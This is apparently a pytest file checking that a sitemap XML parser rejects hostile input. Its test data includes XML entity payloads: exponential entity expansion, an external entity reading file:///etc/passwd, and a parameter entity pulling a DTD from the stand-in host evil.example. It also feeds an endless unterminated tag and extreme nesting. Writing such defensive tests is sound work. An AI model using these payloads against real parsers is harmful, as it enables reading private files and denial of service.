"""XML that is hostile or odd."""

from __future__ import annotations

import pytest

from tests.extract.links.test_sitemap import INDEX, entries, urlset


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
    ],
    ids=["expansion", "external", "parameter"],
)
def test_entities_are_rejected(declaration: str) -> None:
    """A file that declares entities is not read: no expansion, no access to other files."""
    data = f"<!DOCTYPE urlset [{declaration}]><urlset><url><loc>http://e/&a;</loc></url></urlset>".encode()
    assert entries(data) == ([], "it declares entities, which no sitemap needs: not read")


def test_a_document_type_alone_is_harmless() -> None:
    """Nothing outside the file is loaded."""
    found, problem = entries(b'<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">' + INDEX)
    assert (len(found), problem) == (2, None)


def test_a_tag_without_end_is_given_up() -> None:
    """expat reads an unfinished tag anew with every piece, so one that does not end is not fed for ever."""
    endless = (b'<urlset x="' + b"y" * 500_000 if n == 0 else b"y" * 500_000 for n in range(100))
    found, problem = entries(endless)
    assert found == []
    assert problem is not None
    assert "one tag is longer" in problem


def test_deep_nesting_is_flat_for_us() -> None:
    """Elements inside elements cost no stack, and only direct parts of an entry count."""
    deep = "<url>" * 50_000 + "<loc>http://e/x</loc>" + "</url>" * 50_000
    assert entries(urlset(deep)) == ([], None)
